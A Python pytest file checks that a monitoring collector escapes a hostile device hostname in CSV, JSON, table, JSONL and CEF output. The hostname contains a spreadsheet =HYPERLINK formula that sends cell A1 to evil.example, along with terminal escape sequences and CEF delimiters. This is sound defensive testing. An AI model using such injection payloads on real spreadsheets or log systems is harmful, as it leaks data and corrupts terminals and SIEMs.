"""A laptop's user controls its hostname: one full of control characters and a spreadsheet formula,
through a real ingest, must reach no terminal, SIEM or spreadsheet raw — in every format and every
command that writes it."""
from __future__ import annotations

import csv
import io
import json
import os
import socket
import subprocess
import sys
import unicodedata
from pathlib import Path

import pytest
from google.protobuf import json_format

from conftest import scenario_report
from farmwatch.common import output
from farmwatch.common import printable

BIN = Path(sys.executable).parent
# a formula, ESC (terminal sequences), BEL, NUL, DEL, C1 (NEL, CSI), line and paragraph separators,
# a right-to-left override, and CEF's own delimiters
HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"open")\x1b[2J\x07\x00\x7f\x85\x9b31m\u2028\u2029\u202e|k=v\\'


def collector(home: Path, *args) -> str:
    result = subprocess.run([str(BIN / "farmwatch-collector"), "--home", str(home), *map(str, args)],
                            capture_output=True, text=True, timeout=60,
                            env={**{k: v for k, v in os.environ.items() if k != "COLUMNS"}, "GRPC_VERBOSITY": "ERROR"})
    assert result.returncode == 0, result.stderr
    return result.stdout


def raw_hidden(text: str) -> list[str]:
    """Control, format and separator characters in `text`, apart from the newlines that end its lines."""
    return sorted({f"U+{ord(ch):04X}" for ch in text
                   if unicodedata.category(ch) in ("Cc", "Cf", "Zl", "Zp") and ch != "\n"})


@pytest.fixture(scope="module")
def home(tmp_path_factory) -> Path:
    """A collector home that ingested one relay whose hostname is HOSTILE."""
    home = tmp_path_factory.mktemp("hostile") / "home"
    collector(home, "pki", "init")
    report = scenario_report("relay/win_jetkvm", "SN-HOSTILE")
    report.host.hostname = HOSTILE
    path = home.parent / "report.json"
    path.write_text(json.dumps(json_format.MessageToDict(report, preserving_proto_field_name=True)))
    assert "stored 1" in collector(home, "ingest", path)
    return home


@pytest.mark.parametrize("command", [["devices"], ["flags"], ["device", "SN-HOSTILE"],
                                     ["query", "SELECT device_id, hostname, score FROM devices"]])
def test_csv_is_one_line_per_row_with_no_control_character_and_no_formula(home, command):
    out = collector(home, *command, "--csv")
    assert raw_hidden(out) == []
    rows = list(csv.reader(io.StringIO(out)))
    assert len(rows) == len(out.splitlines())  # no cell spans lines
    hostnames = [cell for row in rows for cell in row if "HYPERLINK" in cell]
    assert hostnames and all(cell.startswith("'=HYPERLINK(") for cell in hostnames)
    assert all("\\x1b[2J\\x07\\x00\\x7f\\x85\\x9b31m\\u2028\\u2029\\u202e" in cell for cell in hostnames)


def test_csv_numbers_stay_numbers(home):
    [row] = csv.DictReader(io.StringIO(collector(home, "devices", "--csv")))
    assert row["score"] == "100"
    assert [output.csv_cell(v) for v in (-5, 2.5, "-5", "+1", "@SUM(A1)", "\tx", "\rx", "plain")] == [
        -5, 2.5, "'-5", "'+1", "'@SUM(A1)", "'\\tx", "'\\rx", "plain"]


@pytest.mark.parametrize("command", [["devices"], ["flags"], ["device", "SN-HOSTILE"]])
def test_json_escapes_every_hidden_character_and_loses_nothing(home, command):
    out = collector(home, *command, "--json")
    assert raw_hidden(out) == []
    assert HOSTILE in strings(json.loads(out))  # a JSON reader gets the very same text back


def strings(value) -> set[str]:
    if isinstance(value, dict):
        return set().union(*map(strings, value.values()))
    if isinstance(value, list):
        return set().union(*map(strings, value))
    return {value} if isinstance(value, str) else set()


def test_tables_show_hidden_characters_escaped(home):
    out = collector(home, "devices")
    assert raw_hidden(out) == [] and "\\x1b[2J" in out and len(out.splitlines()) == 2


def test_jsonl_export_is_one_line_per_event_and_lossless(home):
    out = collector(home, "export", "jsonl", "--sink", "hostile-jsonl")
    assert raw_hidden(out) == []
    events = [json.loads(line) for line in out.splitlines()]  # splitlines also splits at U+2028 and C1
    assert len(events) >= 2 and all(e["hostname"] == HOSTILE for e in events)


def test_cef_export_carries_no_control_character(home):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as receiver:
        receiver.bind(("127.0.0.1", 0))
        receiver.settimeout(10)
        collector(home, "export", "cef", "--to", f"127.0.0.1:{receiver.getsockname()[1]}")
        message = receiver.recv(65535).decode("utf-8")
    assert raw_hidden(message) == []
    dvchost = message[message.index(" dvchost=") + 9:message.index(" externalId=")]
    assert dvchost == ('\\=HYPERLINK("http://evil.example/?"&A1,"open")\\\\x1b[2J\\\\x07\\\\x00\\\\x7f\\\\x85'
                       '\\\\x9b31m\\\\u2028\\\\u2029\\\\u202e|k\\=v\\\\')


def test_json_text_escapes_astral_format_characters_as_surrogate_pairs():
    text = printable.json_text("a\U000e0001b")
    assert text == '"a\\udb40\\udc01b"' and json.loads(text) == "a\U000e0001b"
